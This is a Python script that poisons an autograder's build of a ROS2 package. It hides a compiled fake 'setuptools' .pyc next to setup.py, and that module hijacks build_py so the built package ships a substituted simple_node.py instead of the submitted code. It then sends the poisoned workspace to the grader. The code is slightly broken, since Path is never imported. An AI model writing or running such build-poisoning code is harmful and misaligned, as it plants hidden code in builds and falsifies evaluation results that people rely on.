# Ask the grader to build the package as it is, with a compiled module beside setup.py that builds another program.
import importlib._bootstrap_external
import os

from autograder.messages.json_lines import Lines
from autograder.messages.workspace_messages import BuildAnswer, BuildRequest, Source
from autograder.workspaces.sources import collect_workspace

IN_PLACE_OF_SETUPTOOLS = """
import os, sys
here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [folder for folder in sys.path if os.path.abspath(folder or ".") != here]
del sys.modules["setuptools"]
import setuptools
from setuptools.command.build_py import build_py
plain = build_py.run
def run(self):
    plain(self)
    with open(os.path.join(self.build_lib, "my_robot_pkg", "simple_node.py"), "w") as file:
        file.write(PROGRAM)
build_py.run = run
"""


def poison(program):
    """Have the sources of the workspace built to a program that is not in them."""
    code = compile(IN_PLACE_OF_SETUPTOOLS.replace("PROGRAM", repr(program)), "setuptools.py", "exec")
    compiled = importlib._bootstrap_external._code_to_timestamp_pyc(code)
    sources = [*collect_workspace(Path("ros2_ws"))]
    for name in ("setuptools.pyc", "__pycache__/setuptools.cpython-311.pyc", "__pycache__/setuptools.pyc"):
        sources.append(Source(f"ros2_ws/src/my_robot_pkg/{name}", bytes(compiled)))
    if "AUTOGRADER_BUILDS" in os.environ:
        lines = Lines.to(os.environ["AUTOGRADER_BUILDS"], 60.0)
        lines.say(BuildRequest(len(sources), "ros2_ws", ["my_robot_pkg"]))
        for source in sources:
            lines.say(source)
        print(lines.hear(BuildAnswer))
